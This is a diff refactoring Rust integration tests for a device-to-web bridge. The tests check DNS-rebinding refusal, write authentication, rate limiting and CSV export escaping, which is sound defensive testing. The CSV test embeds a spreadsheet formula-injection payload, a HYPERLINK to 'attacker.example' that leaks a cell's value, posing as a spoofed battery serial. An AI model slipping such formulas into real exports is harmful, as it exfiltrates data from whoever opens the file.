@@ -48,6 +48,34 @@ fn config(sim: &simulator::Simulator, dir: &std::path::Path, web: &str, extra: &
     )
 }
 
+/// The simulator and the bridge (with [`TOKEN`]) of one test.
+struct Setup {
+    sim: simulator::Simulator,
+    bridge: Bridge,
+    _dir: testkit::TempDir,
+}
+
+impl Setup {
+    async fn start(tag: &str, web: &str, extra: &str) -> Setup {
+        let sim = start_sim(&[DEVICE], 20.0).await;
+        let dir = testkit::temp_dir(tag);
+        let config = config(&sim, dir.path(), web, extra);
+        let bridge = tokio::task::block_in_place(|| {
+            Bridge::start(dir.path(), &config, &[("OCEANBRIDGE_WEB_TOKEN", TOKEN)])
+        });
+        Setup {
+            sim,
+            bridge,
+            _dir: dir,
+        }
+    }
+
+    async fn stop(self) {
+        drop(self.bridge);
+        self.sim.shutdown().await;
+    }
+}
+
 /// A counter of `/metrics` (`oceanbridge_dropped_total{reason=…}`), 0 when absent.
 async fn dropped(bridge: &Bridge, reason: &str) -> f64 {
     let m = bridge.get("/metrics", Some(TOKEN)).await;
@@ -167,13 +195,8 @@ async fn slowloris_is_closed_within_the_header_timeout_and_healthz_answers_under
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn a_dns_rebinding_host_is_refused_even_with_the_token() {
-    let sim = start_sim(&[DEVICE], 20.0).await;
-    let dir = testkit::temp_dir("rebinding");
-    let web = "allowed_hosts = [\"bridge.example\"]\n";
-    let config = config(&sim, dir.path(), web, "");
-    let bridge = tokio::task::block_in_place(|| {
-        Bridge::start(dir.path(), &config, &[("OCEANBRIDGE_WEB_TOKEN", TOKEN)])
-    });
+    let setup = Setup::start("rebinding", "allowed_hosts = [\"bridge.example\"]\n", "").await;
+    let bridge = &setup.bridge;
     let port = bridge.web.port();
     let evil = format!("attacker.example:{port}");
     for path in ["/api/devices", "/api/export.csv", "/api/diagnostics", "/"] {
@@ -197,29 +220,20 @@ async fn a_dns_rebinding_host_is_refused_even_with_the_token() {
         .await;
         assert_eq!(r.status, 200, "{host}: {}", r.body);
     }
-    assert_eq!(dropped(&bridge, "web_host_refused").await, 4.0);
+    assert_eq!(dropped(bridge, "web_host_refused").await, 4.0);
     assert!(
         bridge.stderr().contains("allowed_hosts"),
         "the first refusal is logged with the fix"
     );
-    drop(bridge);
-    sim.shutdown().await;
+    setup.stop().await;
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn writes_need_the_token_header_json_and_the_same_origin() {
-    let sim = start_sim(&[DEVICE], 20.0).await;
-    let dir = testkit::temp_dir("writes");
     // A dry run: a write that passes is validated and audited, nothing is sent.
-    let config = config(
-        &sim,
-        dir.path(),
-        "",
-        "[control]\nenabled = true\ndry_run = true\n",
-    );
-    let bridge = tokio::task::block_in_place(|| {
-        Bridge::start(dir.path(), &config, &[("OCEANBRIDGE_WEB_TOKEN", TOKEN)])
-    });
+    let control = "[control]\nenabled = true\ndry_run = true\n";
+    let setup = Setup::start("writes", "", control).await;
+    let bridge = &setup.bridge;
     wait_for_async(Duration::from_secs(60), async || {
         let d = bridge.get_json("/api/devices", Some(TOKEN)).await;
         d["devices"]
@@ -271,8 +285,7 @@ async fn writes_need_the_token_header_json_and_the_same_origin() {
         assert_eq!(a.header("x-content-type-options"), Some("nosniff"));
         assert_eq!(a.header("referrer-policy"), Some("no-referrer"));
     }
-    drop(bridge);
-    sim.shutdown().await;
+    setup.stop().await;
 }
 
 #[test]
@@ -318,12 +331,8 @@ fn a_public_bind_without_a_token_refuses_to_start() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn concurrent_diagnostics_build_one_bundle_the_rest_get_429() {
-    let sim = start_sim(&[DEVICE], 20.0).await;
-    let dir = testkit::temp_dir("diag-busy");
-    let config = config(&sim, dir.path(), "", "");
-    let bridge = tokio::task::block_in_place(|| {
-        Bridge::start(dir.path(), &config, &[("OCEANBRIDGE_WEB_TOKEN", TOKEN)])
-    });
+    let setup = Setup::start("diag-busy", "", "").await;
+    let bridge = &setup.bridge;
     wait_for_async(Duration::from_secs(60), async || {
         bridge.stderr().contains("MQTT connected").then_some(())
     })
@@ -365,21 +374,16 @@ async fn concurrent_diagnostics_build_one_bundle_the_rest_get_429() {
     eprintln!("measured: concurrent diagnostics: {ok} built, {busy} answered 429");
     assert!(busy > 0, "no request overlapped a build in 20 rounds of 8");
     assert_eq!(
-        dropped(&bridge, "web_diagnostics_busy").await,
+        dropped(bridge, "web_diagnostics_busy").await,
         f64::from(busy)
     );
-    drop(bridge);
-    sim.shutdown().await;
+    setup.stop().await;
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn a_spoofed_battery_serial_is_escaped_in_the_csv_export() {
-    let sim = start_sim(&[DEVICE], 20.0).await;
-    let dir = testkit::temp_dir("csv-inject");
-    let config = config(&sim, dir.path(), "", "");
-    let bridge = tokio::task::block_in_place(|| {
-        Bridge::start(dir.path(), &config, &[("OCEANBRIDGE_WEB_TOKEN", TOKEN)])
-    });
+    let setup = Setup::start("csv-inject", "", "").await;
+    let bridge = &setup.bridge;
     let spoofed = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"open\")";
     let pack = catalog::channel_states(Channel::battery_pack(0).expect("pack 0"));
     let sn = pack.iter().find(|s| s.name == "bpSn").expect("bpSn");
@@ -406,7 +410,7 @@ async fn a_spoofed_battery_serial_is_escaped_in_the_csv_export() {
         ),
     ];
     let payload = encode_frames(frames);
-    let publisher = Publisher::connect(&sim, "hostile-csv").await;
+    let publisher = Publisher::connect(&setup.sim, "hostile-csv").await;
     let topic = protocol::topics::property_topic(CRAFTED);
     let path = format!("/api/export.csv?device={CRAFTED}");
     // Published until it shows: the bridge may not have subscribed yet at first.
@@ -440,6 +444,5 @@ async fn a_spoofed_battery_serial_is_escaped_in_the_csv_export() {
     assert!(row("EnergyStreamItem.bpPwr").contains(",-350,"), "{csv}");
     assert!(row("EnergyStreamItem.gridPwr").contains(",-1200,"), "{csv}");
     assert!(!csv.contains("'-"), "{csv}");
-    drop(bridge);
-    sim.shutdown().await;
+    setup.stop().await;
 }
